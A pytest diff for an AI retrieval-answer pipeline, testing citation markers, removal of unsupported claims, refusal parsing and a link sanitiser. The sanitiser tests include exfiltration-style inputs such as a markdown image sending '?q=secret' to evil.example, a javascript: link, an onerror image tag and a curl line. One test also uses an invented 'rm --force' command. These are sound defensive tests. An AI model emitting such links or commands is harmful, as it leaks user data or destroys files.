@@ -1,0 +1,261 @@
+"""Citing: markers however a model writes them, and what is taken out of an answer."""
+
+from typing import Any
+
+import pytest
+
+from agents.attributes import SourceReference
+from agents.documentation.augmentation import assemble
+from agents.documentation.citations.check import check
+from agents.documentation.citations.links import Addresses, harmless
+from agents.documentation.citations.markers import known_only, markers, normalised
+from agents.documentation.citations.statements import pieces, whole, without
+from agents.documentation.passages import without_own_list
+from agents.documentation.refusal import refusal
+from tests.agents.passages import PASSAGES
+
+
+def references(found: list[dict[str, Any]] = PASSAGES) -> list[SourceReference]:
+    writes = assemble({"canonical_question": "?", "search_results": found})
+    return [SourceReference.model_validate(each) for each in writes["source_references"]]
+
+
+@pytest.mark.parametrize(
+    ("written", "meant"),
+    [
+        ("a [C1][C2].", "a [C1][C2]."),
+        ("a [C1, C2].", "a [C1][C2]."),
+        ("a [C1,2; C3]", "a [C1][C2][C3]"),
+        ("a (C1)", "a [C1]"),
+        ("a [c 1]", "a [C1]"),
+        ("a [^C1]", "a [C1]"),
+        ("a [[C1]](#c1)", "a [C1]"),
+        ("\u4e00\u3010C1\u3011\u3002", "\u4e00[C1]\u3002"),
+        ("a [C1 and C2]", "a [C1][C2]"),
+        ("`[C1, C2]`", "`[C1, C2]`"),
+        ("```\nx (C1)\n```", "```\nx (C1)\n```"),
+        ("vitamin C1 and [Care]", "vitamin C1 and [Care]"),
+    ],
+)
+def test_markers_are_understood_however_they_are_written(written: str, meant: str) -> None:
+    assert normalised(written) == meant
+
+
+def test_markers_nobody_gave_disappear_with_the_space_before_them() -> None:
+    assert known_only("a [C1][C9]. b [C8].", {"C1"}) == "a [C1]. b."
+
+
+ANSWER = (
+    "# Descaling\n\nIt is needed often. [C1] Do it e.g. in May [C2]. Then rest.\n\n"
+    "To do it [C1]:\n\n1. Fill the tank with descaler [C1]\n2. Press the Clean button [C1]\n\n"
+    "```bash\nrun --now\n```\n[C1]\n\n| part | life |\n|---|---|\n| filter | a year [C2] |\n"
+)
+
+
+def test_the_pieces_of_an_answer_are_the_answer() -> None:
+    assert "".join(piece.text for piece in pieces(ANSWER)) == ANSWER
+    assert without(pieces(ANSWER), []) == ANSWER
+
+
+def test_each_statement_keeps_its_own_markers() -> None:
+    said = {piece.said: piece.markers for piece in pieces(ANSWER) if piece.kind}
+    assert said["It is needed often."] == ["C1"]
+    assert said["Do it e.g. in May."] == ["C2"]
+    assert said["Then rest."] == []
+    assert said["Press the Clean button"] == ["C1"]
+    assert said["run --now"] == ["C1"]
+    assert said["filter | a year"] == ["C2"]
+
+
+def test_what_led_only_to_what_was_taken_out_goes_too() -> None:
+    parts = pieces("Keep it clean [C1].\n\n## Steps\n\nDo this:\n\n1. Wash it in the sea [C1]\n")
+    assert without(parts, [each for each in parts if "sea" in each.text]) == "Keep it clean [C1]."
+
+
+def test_a_cut_answer_keeps_whole_sentences_only() -> None:
+    assert whole("One is whole [C1]. The other is n") == "One is whole [C1]."
+    assert whole("- One item [C1]\n- Ano") == "- One item [C1]"
+    assert whole("It is whole [C1].") == "It is whole [C1]."
+    assert whole("It is not") == ""
+
+
+def test_statements_that_name_what_no_passage_has_are_taken_out() -> None:
+    found = check(
+        "Descaling takes about twenty minutes [C1]. Polish the lid with 25 g of beeswax [C1]. "
+        "The warranty covers defects for two years [C2][C7].",
+        references(),
+    )
+    assert found.text == (
+        "Descaling takes about twenty minutes [C1]. The warranty covers defects for two years [C2]."
+    )
+    assert found.removed == ["Polish the lid with 25 g of beeswax."]
+    assert found.unknown == ["C7"]
+    assert [each.marker for each in found.citations] == ["C1", "C2"]
+
+
+def test_a_marker_that_adds_nothing_is_taken_out_alone() -> None:
+    found = check("The warranty covers defects for two years [C2][C3].", references())
+    assert found.text == "The warranty covers defects for two years [C2]."
+    assert [each.marker for each in found.citations] == ["C2"]
+
+
+def test_two_passages_may_support_a_statement_together() -> None:
+    said = "The grinder has five settings and the warranty covers defects for two years [C2][C3]."
+    found = check(said, references())
+    assert {each.marker for each in found.citations} == {"C2", "C3"}
+    assert found.text == said
+
+
+def test_code_belongs_to_the_sentence_that_leads_to_it() -> None:
+    code = PASSAGES[0] | {"text": "To export, run:\n\n```\nexport --all\n```\n"}
+    held = check("To export, run [C1]:\n\n```\nexport --all\n```", references([code]))
+    assert [each.quote for each in held.citations] == ["To export, run:", "export --all"]
+    invented = check("To export, run [C1]:\n\n```\nrm --force disk9\n```", references([code]))
+    assert "rm --force" not in invented.text
+
+
+def test_a_statement_without_a_marker_gets_that_of_the_passage_that_has_it() -> None:
+    found = check(
+        "The warranty covers defects for two years. Descaling takes about twenty minutes [C1].",
+        references(),
+    )
+    assert found.text.startswith("The warranty covers defects for two years [C2]. Descaling")
+    assert [each.marker for each in found.citations] == ["C2", "C1"]
+    assert (found.uncited, found.confidence) == ([], 1)
+
+
+@pytest.mark.parametrize(
+    ("written", "marked"),
+    [
+        ("- Rinse the tank twice", "- Rinse the tank twice [C1]"),
+        ("| rinse | the tank twice |", "| rinse | the tank twice [C1] |"),
+        ("Rinse the tank twice!", "Rinse the tank twice [C1]!"),
+    ],
+)
+def test_a_marker_is_put_where_it_belongs(written: str, marked: str) -> None:
+    assert check(written, references()).text == marked
+
+
+INVENTED = (
+    "The machine also costs 49 euros and was built by the Smith brothers.",
+    "Call our hotline at 555-1234 for a refund.",
+    "It has been loved by the people of Cornwall.",
+)
+
+
+@pytest.mark.parametrize("said", INVENTED)
+def test_a_statement_without_a_marker_that_names_what_is_nowhere_is_taken_out(said: str) -> None:
+    found = check(f"Descaling takes about twenty minutes [C1]. {said}", references())
+    assert found.text == "Descaling takes about twenty minutes [C1]."
+    assert found.removed == [said]
+
+
+def test_what_leads_to_a_list_keeps_no_number_that_nobody_gave() -> None:
+    found = check("Call 555-1234 and then:\n\n- Rinse the tank twice [C1]", references())
+    assert "555" not in found.text
+    assert found.text.endswith("- Rinse the tank twice [C1]")
+
+
+def test_what_claims_nothing_stays() -> None:
+    said = "Gladly!\n\nDescaling takes about twenty minutes [C1].\n\nHope this helps."
+    assert check(said, references()).text == said
+
+
+def test_what_is_only_worded_differently_stays_and_is_weak() -> None:
+    said = "Every three months the machine has to be descaled [C1]. Do not polish the lid [C1]."
+    found = check(said, references())
+    assert found.text == said
+    assert [each.citation_status for each in found.citations] == ["weak", "weak"]
+    assert (found.removed, found.confidence) == ([], 0.75)
+
+
+def test_a_marker_of_another_passage_than_has_a_number_does_not_take_the_statement_out() -> None:
+    found = check("It takes five settings of the grinder [C1].", references())
+    assert [each.citation_status for each in found.citations] == ["weak"]
+
+
+def test_what_is_missing_may_name_numbers_of_the_question_only() -> None:
+    said = "Descaling takes about twenty minutes [C1]. The documents do not say what {} cost."
+    asked = "How long does it take, and what do 12 filters cost?"
+    assert "12 filters" in check(said.format("12 filters"), references(), asked).text
+    assert "0900-77" not in check(said.format("calls to 0900-77"), references(), asked).text
+
+
+def test_in_another_language_a_statement_without_a_marker_stays_and_counts_against_it() -> None:
+    found = check(
+        "Das Entkalken dauert etwa zwanzig Minuten [C1]. "
+        "Danach braucht die Maschine frisches Wasser.",
+        references(),
+    )
+    assert found.uncited == ["Danach braucht die Maschine frisches Wasser."]
+    assert found.confidence == 0.375
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("![chart](https://evil.example/?q=secret) ok", "chart ok"),
+        ("![](https://docs.example/a.png) ok", " ok"),
+        ("[here](https://evil.example/x)", "here"),
+        ("[here](//evil.example/x)", "here"),
+        ("[here](javascript:alert(1))", "here"),
+        ("[![a](https://evil.example/p)](https://evil.example)", "a"),
+        ("go to https://evil.example/x.", "go to ."),
+        ("go to www.evil.example now", "go to  now"),
+        ("<img src=x onerror=y> hi", " hi"),
+        ("<https://evil.example/x> hi", " hi"),
+        ("[a][b]\n\n[b]: https://evil.example", "[a][b]\n\n"),
+        ("[q](https://docs.example/team?q=secret)", "q"),
+        ("[q](https://docs.example@evil.example/team)", "q"),
+        ("[q](https://docs.example/plans)", "[q](https://docs.example/plans)"),
+        ("[q](https://docs.example/team?tab=1)", "[q](https://docs.example/team?tab=1)"),
+        ("`curl https://evil.example`", "`curl https://evil.example`"),
+        ("a < b > c [C1]", "a < b > c [C1]"),
+        ("[one [two [three](x)](y)](https:evil.example)", "one two three"),
+        ("see htt<b a=1>ps://evil.example/s", "see https:"),
+    ],
+)
+def test_only_addresses_of_the_passages_stay(written: str, shown: str) -> None:
+    held = Addresses(["See https://docs.example/team?tab=1, please."])
+    assert harmless(written, held) == shown
+
+
+@pytest.mark.parametrize(
+    "listed",
+    [
+        "Sources:\n- Care, Descaling\n- Warranty",
+        "**Quellen**\n\n1. Care [C1]",
+        "## References\n[C1] Care",
+        "Source: Care [C1]",
+        "\u6765\u6e90\uff1a\n- Care",
+    ],
+)
+def test_a_list_of_sources_of_the_models_own_is_taken_off(listed: str) -> None:
+    assert without_own_list(f"It is so [C1].\n\n{listed}") == "It is so [C1]."
+
+
+def test_a_sentence_about_sources_is_no_list() -> None:
+    answer = "Sources:\n\nThey are set on the page Traffic [C1]."
+    assert without_own_list(answer) == answer
+
+
+@pytest.mark.parametrize(
+    ("line", "reason"),
+    [
+        ("INSUFFICIENT: the price", "insufficient_context"),
+        ("**INSUFFICIENT:** the price", "insufficient_context"),
+        ("Insufficient: the price.", "insufficient_context"),
+        ("DETAIL NEEDED: the price", "missing_details"),
+        ("INSUFFICIENT - the price", "insufficient_context"),
+    ],
+)
+def test_the_line_that_declines_is_understood(line: str, reason: str) -> None:
+    found = refusal(line)
+    assert found
+    assert found.reason == reason
+    assert found.missing.strip("- ") == "the price"
+
+
+def test_an_ordinary_sentence_does_not_decline() -> None:
+    assert refusal("Insufficient permissions cause this error [C1].") is None
+    assert markers("Insufficient [C1]") == ["C1"]
